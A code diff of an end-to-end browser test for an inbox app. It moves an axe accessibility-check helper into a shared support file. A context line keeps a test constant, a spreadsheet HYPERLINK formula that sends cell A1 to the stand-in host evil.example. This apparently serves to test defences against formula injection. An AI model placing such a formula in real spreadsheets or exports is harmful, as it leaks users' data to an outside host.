@@ -1,9 +1,9 @@
-import AxeBuilder from "@axe-core/playwright";
 import { parse } from "csv-parse/sync";
 import { readFileSync } from "node:fs";
 import type { Browser, Page } from "playwright-core";
 import { readSheet } from "read-excel-file/node";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { axe } from "../support/axe.ts";
 import { waitForHydration } from "../support/app.ts";
 import { launchBrowser } from "../support/browser.ts";
 import { pdf } from "../support/cv-files.ts";
@@ -19,7 +19,6 @@ import { inTurn } from "../support/templates.ts";
  * answers a person's request for deletion. Every inbox page passes axe
  * (WCAG 2.2 A/AA) at 1440 and 768 px with no CSP violation.
  */
-const WCAG = ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "wcag22aa"];
 const FILL_MS = 3_200;
 const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1;"Открыть")';
 const PASSWORD = { sales: "Sales in the browser 2026", hr: "People in the browser 2026", editor: "Editor in the browser 2026", admin: "Admin in the browser 2026" };
@@ -52,11 +51,6 @@ async function signInAs(session: Session, role: keyof typeof PASSWORD, path = "/
   await page.getByLabel("Пароль").fill(PASSWORD[role]);
   await page.getByRole("button", { name: "Войти" }).click();
   await page.waitForURL((url) => url.pathname === path);
-}
-
-async function axe(page: Page): Promise<string[]> {
-  const results = await new AxeBuilder({ page }).withTags(WCAG).analyze();
-  return results.violations.flatMap((v) => v.nodes.map((node) => `${v.id}: ${node.target.join(" ")} (${node.failureSummary?.split("\n")[1]?.trim() ?? v.help})`));
 }
 
 describe("the inbox in a browser", () => {
